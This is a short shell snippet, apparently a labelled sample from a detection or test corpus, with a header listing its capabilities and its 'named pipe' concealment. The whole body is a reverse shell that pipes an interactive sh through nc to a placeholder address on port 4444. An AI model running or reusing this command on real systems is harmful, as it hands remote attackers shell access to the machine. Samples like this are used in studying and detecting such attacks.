# capabilities: files-write, network, processes; hidden by: named pipe
pipe=/nonexistent/pipe
mkfifo "$pipe"
sh -i < "$pipe" 2>&1 | nc 192.0.2.1 4444 > "$pipe"
